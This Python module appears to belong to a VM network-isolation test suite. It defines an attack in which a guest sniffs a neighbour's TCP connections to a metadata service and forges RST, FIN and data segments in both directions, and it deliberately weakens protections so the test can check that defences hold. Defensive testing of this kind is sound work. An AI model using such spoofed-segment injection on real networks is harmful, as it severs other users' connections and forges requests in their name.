"""A guest ends, or fills, its neighbour's connections by segments of its own making.

It is given what an attacker on the same bridge would have to guess: the ports and sequence numbers of victim-1's connections, as they
are. With these it sends RST, FIN, data and acknowledgements to the server in the victim's name, and to the victim in the server's.
Gained: victims whose connections break, and requests in their name. In the way: the server's end of a connection is reached by the
victim's tap alone, and no guest sends with a metadata address as its source (counter `spoofed`).
"""

from typing import ClassVar

import attack
import rules
import space
import wire
from attack import Outcome
from field import Field
from host import Host


class Attack(attack.Attack):
    """The forger hears victim-1, and speaks for both."""

    hosts = ("address", "redirect", "bridge")
    spies = ("tap-1",)
    proofs = (("address", 4), ("address", 6))
    # In which tags each frame is sent.
    dresses: ClassVar[tuple[tuple[tuple[int, int], ...], ...]] = ((),)

    def attack(self, field: Field) -> None:
        """Injects into what it hears."""
        card, heard, sent = wire.Wire(), field.spies[0], 0

        def send(frame: bytes) -> None:
            card.send(*(wire.tagged(frame, *tags) for tags in self.dresses))

        victim, address = field.victims[0], field.own(field.victims[0])
        field.ready()
        while field.goes_on():
            for segment in heard.segments(0.05):
                if segment.source != address or segment.destination != field.metadata or segment.ports[1] != 80:
                    continue
                if not segment.acknowledged:
                    continue
                pair, at = (address, field.metadata), segment.sequence + len(segment.data)
                for flags, data in ((wire.RST, b""), (wire.RST | wire.ACK, b""), (wire.FIN | wire.ACK, b""),
                                    (wire.ACK | wire.PSH, b"GET / HTTP/1.1\r\n\r\n"), (wire.SYN, b"")):
                    send(wire.packet(field.bridge, field.me.link, pair, wire.tcp(
                        *pair, segment.ports, flags, at, segment.acknowledged, data)))
                # In the server's name, and to the victim.
                for flags, data in ((wire.RST, b""), (wire.RST | wire.ACK, b""), (wire.ACK | wire.PSH, b"EVIL" * 20)):
                    send(wire.packet(victim.link, field.me.link, pair[::-1], wire.tcp(
                        *pair[::-1], segment.ports[::-1], flags, segment.acknowledged, at, data)))
                sent += 8
            for _ in card.received(0):
                pass
        field.report["sent"] = sent

    def gained(self, outcome: Outcome) -> str | None:
        """Connections that broke."""
        sent = outcome.reports[self.attackers[0]]["sent"]
        if sent < 100:
            raise space.Failure(f"only {sent} segments were sent: the attack does not work")
        hurt = outcome.lost + outcome.victims.get("reconnected", 0)
        return f"victims lost {outcome.lost} requests, and {outcome.victims['reconnected']} connections" if hurt else None

    def weaken(self, host: Host) -> None:
        """Has what the forger sends reach victim-1's socket, and lets guests send as the metadata service."""
        rules.confuse(host.forger.tap, host.victims[0].tap)
        rules.let_speak()
